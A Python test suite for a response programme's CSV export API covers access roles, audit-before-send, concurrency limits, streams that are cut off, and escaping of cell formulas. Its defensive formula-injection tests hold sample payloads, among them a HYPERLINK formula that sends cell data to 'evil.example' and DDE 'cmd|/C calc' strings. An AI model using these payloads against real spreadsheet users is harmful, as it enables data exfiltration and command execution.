"""How a file goes out: to whom, audited first, one at a time, whole or visibly not, and with nothing that runs."""

import asyncio
import csv
import gc
import io
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from schemas.exports import EXPORTS
from server.errors import NotNow
from server.reports import rules
from server.reports.child import Job
from server.reports.export import stream
from server.reports.routes import FOREVER
from tests.phone import Phone
from tests.stories.team import Team, a_team
from tests.walls import evening
from tests.walls.evening import disclosed, fetch
from tests.walls.watched import ask

FILES = tuple(EXPORTS)


@pytest.fixture
async def team(served) -> AsyncIterator[Team]:
    async with a_team(served, served.found("city")) as made:
        yield made


@pytest.fixture
async def priya(team) -> AsyncIterator[Phone]:
    async with team.served.phone(team.city, "manager") as phone:
        yield phone


# ------------------------------------------------------------------ who may, and who is told

PATHS = ("reports/outcomes", *(f"export/{name}.csv" for name in FILES), "export/dictionary.csv")
FULL = "export/full/stages.csv"


@pytest.mark.parametrize(
    ("kind", "role"),
    [
        ("city", "dispatcher"),
        ("city", "responder"),
        ("city", "admin"),
        ("city", "privacy_officer"),
        ("site", "interrupter"),
        ("site", "site_lead"),
        ("site", "admin"),
    ],
)
async def test_whoever_does_not_account_for_the_programme_gets_no_file(served, kind: Any, role: Any):
    organization = served.found(kind)
    async with served.phone(organization, role) as phone:
        answers = [await phone.http.get(f"/api/{path}") for path in (*PATHS, FULL)]
    told = await organization.database.read(lambda tx: tx.all("SELECT id FROM disclosure"))

    assert [(answer.status_code, answer.json()["code"]) for answer in answers] == [(403, "forbidden")] * len(answers)
    assert told == []


async def test_the_programme_gets_no_full_file_and_nobody_gets_one_unasked(team, priya):
    refused = await priya.http.get(f"/api/{FULL}")
    async with team.served.http() as stranger:
        answers = [await stranger.get(f"/api/{path}") for path in (*PATHS, FULL)]

    assert (refused.status_code, refused.json()["code"]) == (403, "forbidden")
    assert {answer.status_code for answer in answers} == {401}
    assert await disclosed(team) == []


async def test_a_file_nobody_knows_is_not_found_and_not_audited(team, priya):
    for name in ("stages.csv", "calls", "calls.csv.csv", "..", "encounter.csv"):
        assert (await priya.http.get(f"/api/export/{name}")).status_code == 404
    assert await disclosed(team) == []


async def test_that_a_file_went_out_is_on_the_disk_before_its_first_byte(team, priya):
    seen: list[list[tuple[str, str]]] = []

    async def watch(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            seen.append(await disclosed(team))

    await ask(team.served, priya, "/api/export/calls.csv", watch)

    assert seen == [[(priya.person, f"export calls 0-{FOREVER}")]]


async def test_what_cannot_be_audited_does_not_go_out(team, priya):
    await evening.take(team, "call-1")

    with team.served.ground.forbidding(team.city, "disclosure"):
        answer = await priya.http.get("/api/export/calls.csv")

    assert answer.status_code >= 500
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.json()["advice"] == "retry"
    assert "UNHOUSED_NEED" not in answer.text
    assert len(await fetch(priya, "calls.csv")) == 1, "and the turn was not used up"


@pytest.mark.told_on("sqlite")
async def test_one_person_makes_one_file_at_a_time(team, priya):
    await evening.take(team, "call-1")
    under_way, go_on = asyncio.Event(), asyncio.Event()

    async def hold(message: dict[str, Any]) -> None:
        if message.get("body"):
            under_way.set()
            await go_on.wait()

    async with team.served.phone(team.city, "manager") as colleague:
        first = asyncio.create_task(ask(team.served, priya, "/api/export/calls.csv", hold))
        await under_way.wait()
        second = await priya.http.get("/api/export/responses.csv")
        theirs = await colleague.http.get("/api/export/calls.csv")
        go_on.set()
        body = await first
        after = await priya.http.get("/api/export/responses.csv")

    assert (second.status_code, second.json()["code"], second.json()["advice"]) == (503, "busy", "retry")
    assert "retry-after" in second.headers
    assert (theirs.status_code, after.status_code) == (200, 200)
    assert body == theirs.content
    assert [person for person, _ in await disclosed(team)] == [priya.person, colleague.person, priya.person]


@pytest.mark.told_on("sqlite")
async def test_of_two_asked_for_at_once_one_is_made(team, priya):
    answers = await asyncio.gather(*(priya.http.get("/api/export/calls.csv") for _ in range(2)))

    assert sorted(answer.status_code for answer in answers) == [200, 503]


# ------------------------------------------------------------------ an export that is not finished

MANY = """
WITH RECURSIVE more (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM more WHERE n < 6000)
INSERT INTO call (id, number, status, source, type_code, priority, taxonomy_version, received_at, entered_at,
 triage_result, would_have_gone_to, screening, caller_role, location_kind, area, minor_involved, version)
SELECT 'copy-' || n, number, status, source, type_code, priority, taxonomy_version, received_at + n, entered_at,
 triage_result, would_have_gone_to, screening, caller_role, location_kind, area, minor_involved, version
FROM call, more WHERE id = 'call-1'
"""


async def test_a_process_that_is_killed_cuts_the_stream(team):
    await evening.take(team, "call-1")
    await team.city.database.write(lambda tx: tx.run(MANY))
    job = Job(file="calls", location=team.city.location, secret=b"x" * 32, since=0, until=FOREVER)
    whole = b"".join([chunk async for chunk in stream(job)])
    assert whole.count(b"\r\n") == 1 + 6001, "left alone, it is finished"

    chunks = stream(job)
    begun = await anext(chunks)
    (running,) = [each for each in gc.get_objects() if is_running(each)]
    running.kill()

    with pytest.raises(NotNow):
        begun += b"".join([chunk async for chunk in chunks])
    assert len(begun) < len(whole)


def is_running(each: Any) -> bool:
    # Not `isinstance`: among all there is are weak references, and to ask one what it is of can fail.
    return issubclass(type(each), asyncio.subprocess.Process) and each.returncode is None


async def test_a_file_that_was_not_finished_never_looks_finished(team, priya):
    await evening.take(team, "call-1")
    await team.city.database.write(lambda tx: tx.run(MANY))
    await team.city.database.write(lambda tx: tx.run("UPDATE call SET screening = '{' WHERE id = 'copy-6000'"))
    sent: list[dict[str, Any]] = []

    async def keep(message: dict[str, Any]) -> None:
        sent.append(message)

    with pytest.raises(Exception, match="after response started"):
        await ask(team.served, priya, "/api/export/calls.csv", keep)

    assert sent[0]["status"] == 200
    assert len(sent) > 1, "what was made so far went out"
    assert all(message["more_body"] for message in sent[1:]), "the last chunk, which ends the file, did not"
    assert (await priya.http.get("/api/export/referrals.csv")).status_code == 200, "and the turn is free again"


async def test_an_export_that_cannot_even_begin_is_refused_as_a_whole(team, priya):
    with team.served.ground.hiding(team.city):
        answer = await priya.http.get("/api/export/calls.csv")

    assert (answer.status_code, answer.json()["code"], answer.json()["advice"]) == (503, "not_now", "retry")
    assert (await priya.http.get("/api/export/calls.csv")).status_code == 200


def move(here: str, there: str) -> None:
    Path(here).rename(there)


@pytest.mark.told_on("sqlite")
async def test_whoever_hangs_up_ends_the_process_and_frees_their_turn(team, priya):
    await evening.take(team, "call-1")
    await team.city.database.write(lambda tx: tx.run(MANY))

    under_way = asyncio.Event()

    async def hold(message: dict[str, Any]) -> None:
        if message.get("body"):
            under_way.set()
            await asyncio.Event().wait()

    await ask(team.served, priya, "/api/export/calls.csv", hold, gone=under_way)

    assert not any(is_running(each) for each in gc.get_objects())
    assert (await priya.http.get("/api/export/referrals.csv")).status_code == 200


# ------------------------------------------------------------------ nothing a spreadsheet would run

RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
BEGINNINGS = st.sampled_from([*RUNS, "'", '"', "''", "'=", ",", '"=', "", "'\0"])


@given(st.builds(str.__add__, BEGINNINGS, st.text(max_size=12)))
@example('=HYPERLINK("http://evil.example?"&A1)')
@example("-1+cmd|' /C calc'!A0")
@example('\'quoted, "twice"\r\n=2')
@example("\0=1")
def test_no_text_begins_a_formula_and_every_text_comes_back(text: str):
    (read,) = csv.reader(io.StringIO(rules.line(["before", text, "after"]), newline=""))

    assert read[0] == "before"
    assert read[2] == "after"
    assert not read[1].startswith(RUNS)
    assert rules.plain(read[1]) == text


@given(st.integers(-(2**53), 2**53), st.booleans())
def test_numbers_stay_numbers(number: int, yes: bool):
    assert rules.cell(number) == str(number)
    assert rules.cell(yes) == str(yes).lower()
    assert rules.cell(None) == ""


@pytest.mark.told_on("sqlite")
async def test_words_that_somebody_typed_into_a_call_or_a_unit_run_in_no_file(team, priya):
    await evening.a_team_goes_by_itself(team)
    await evening.take(team, "call-5", area='=cmd|"/C calc"!A0')
    await team.city.database.write(lambda tx: tx.run("UPDATE unit SET name = '@SUM(1)'"))
    async with team.served.phone(team.city, "supervisor") as supervisor:
        calls = await fetch(priya, "calls.csv")
        stages = await fetch(supervisor, "full/stages.csv")

    assert calls[1]["area"] == '\'=cmd|"/C calc"!A0'
    assert rules.plain(calls[1]["area"]) == '=cmd|"/C calc"!A0'
    assert {row["unit"] for row in stages} == {"'@SUM(1)"}


async def test_a_file_is_the_same_packed_and_unpacked(team, priya):
    await evening.lived(team)
    packed = await priya.http.get("/api/export/dictionary.csv", headers={"accept-encoding": "gzip"})
    flat = await priya.http.get("/api/export/dictionary.csv", headers={"accept-encoding": "identity"})

    assert packed.headers["content-encoding"] == "gzip"
    assert packed.text == flat.text
